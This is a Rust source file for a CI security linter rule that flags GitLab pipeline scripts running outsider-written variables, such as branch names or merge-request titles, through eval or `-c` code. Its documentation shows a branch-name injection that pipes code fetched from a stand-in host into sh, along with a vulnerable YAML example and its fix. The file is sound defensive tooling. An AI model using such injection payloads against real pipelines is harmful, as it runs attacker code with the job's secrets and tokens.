use trustmap_model::Model;
use trustmap_model::docker::shell::{Command, Word};
use trustmap_model::gitlab::{Job, Pipeline};

use super::{script_lines, variable_refs};
use crate::{Related, Rule, RuleMeta, Sink, declare_rule};

declare_rule! {
    /// ## What it finds
    ///
    /// A script that runs, as code, a predefined variable whose text an outsider writes.
    ///
    /// The variables are the commit message, title and description (`$CI_COMMIT_MESSAGE`,
    /// `$CI_COMMIT_TITLE`, `$CI_COMMIT_DESCRIPTION`, `$CI_COMMIT_TAG_MESSAGE`), the commit
    /// author, branch names (`$CI_COMMIT_BRANCH`, `$CI_COMMIT_REF_NAME`,
    /// `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`), the merge request's title and description, and
    /// the user's display name (`$GITLAB_USER_NAME`) — directly, or through a `variables:`
    /// entry that expands one. They are run as code when they appear in the arguments of
    /// `eval`, in the `-c` string of `sh`/`bash`, or in the `-c`/`-e` code of `python`,
    /// `node`, `perl`, `ruby` or `php`. A variable the shell only expands as an argument
    /// (`echo "$CI_COMMIT_TITLE"`) passes: the shell does not run its text.
    ///
    /// ## Why it matters
    ///
    /// A branch named `x$(curl${IFS}-sSf${IFS}evil.example|sh)` or a merge request titled
    /// `"; curl … | sh; "` becomes shell code the moment the job re-parses it, running with the
    /// job's CI/CD variables, its job token and its runner. Anyone who can push a branch or
    /// open a merge request can write these values.
    ///
    /// ## Example
    ///
    /// ```yaml
    /// notify:
    ///   script:
    ///     - eval "echo Building $CI_COMMIT_REF_NAME"
    ///     - sh -c "./notify.sh '$CI_MERGE_REQUEST_TITLE'"
    /// ```
    ///
    /// ## Fix
    ///
    /// Pass the value as data — an argument or an environment variable — and never through
    /// `eval` or a `-c` string:
    ///
    /// ```yaml
    /// notify:
    ///   script:
    ///     - echo "Building $CI_COMMIT_REF_NAME"
    ///     - ./notify.sh "$CI_MERGE_REQUEST_TITLE"
    /// ```
    pub(crate) GitlabScriptInjection {
        id: "GLCI-006",
        name: "gitlab-script-injection",
        severity: High,
        capability: Failure,
        languages: [GitlabCi],
        equivalents: {
            cwe: ["CWE-78", "CWE-94"],
            poutine: ["injection"],
        },
    }
}

/// Predefined variables whose text an outsider writes.
const ATTACKER_CONTROLLED: &[&str] = &[
    "CI_COMMIT_MESSAGE",
    "CI_COMMIT_TITLE",
    "CI_COMMIT_DESCRIPTION",
    "CI_COMMIT_TAG_MESSAGE",
    "CI_COMMIT_AUTHOR",
    "CI_COMMIT_BRANCH",
    "CI_COMMIT_REF_NAME",
    "CI_MERGE_REQUEST_TITLE",
    "CI_MERGE_REQUEST_DESCRIPTION",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
    "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
    "GITLAB_USER_NAME",
];

impl Rule for GitlabScriptInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, model: &Model, out: &mut Sink) {
        for p in &model.gitlab {
            for (resource, job, line) in script_lines(p) {
                let mut clean = true;
                for c in line.script.commands() {
                    let Some((how, code)) = code_words(c) else {
                        continue;
                    };
                    let hit = code.iter().find_map(|w| attacker_value(p, job, w));
                    if let Some((var, through)) = hit {
                        clean = false;
                        let message = match &through {
                            Some((name, _)) => format!(
                                "{how} runs `${name}`, which expands attacker-controlled `${var}`, as code"
                            ),
                            None => format!("{how} runs attacker-controlled `${var}` as code"),
                        };
                        let f = out.report(resource, c.span, &[], message);
                        if let Some((name, span)) = through {
                            f.related.push(Related {
                                span,
                                note: format!("`{name}` is set from `${var}` here"),
                            });
                        }
                    }
                }
                if clean {
                    out.pass_at(resource.span);
                }
            }
        }
    }
}

/// The words a command runs as code, with how to name it.
fn code_words(c: &Command) -> Option<(String, Vec<&Word>)> {
    let p = c.program()?;
    let args = c.args();
    match p {
        "eval" => Some(("`eval`".to_string(), args.iter().collect())),
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" => {
            let i = args.iter().position(|a| {
                a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains('c')
            })?;
            Some((format!("`{p} -c`"), args.get(i + 1).into_iter().collect()))
        }
        "python" | "python3" | "node" | "perl" | "ruby" | "php" => {
            let i = args
                .iter()
                .position(|a| matches!(a.text.as_str(), "-c" | "-e" | "-r" | "--eval"))?;
            Some((
                format!("`{p} {}`", args[i].text),
                args.get(i + 1).into_iter().collect(),
            ))
        }
        _ => None,
    }
}

/// The attacker-controlled variable a word expands, directly or through one `variables:`
/// entry (then with that entry's name and value span).
fn attacker_value<'a>(
    p: &'a Pipeline,
    job: Option<&'a Job>,
    w: &Word,
) -> Option<(String, Option<(String, trustmap_source::Span)>)> {
    for v in variable_refs(&w.text) {
        if ATTACKER_CONTROLLED.contains(&v) {
            return Some((v.to_string(), None));
        }
        let def = match job {
            Some(j) => p.variable(j, v),
            None => p.variables.iter().rev().find(|x| x.name == v),
        };
        if let Some(d) = def.filter(|d| d.expand)
            && let Some(value) = &d.value
            && let Some(inner) = variable_refs(&value.value)
                .into_iter()
                .find(|r| ATTACKER_CONTROLLED.contains(r))
        {
            return Some((inner.to_string(), Some((d.name.clone(), value.span))));
        }
    }
    None
}
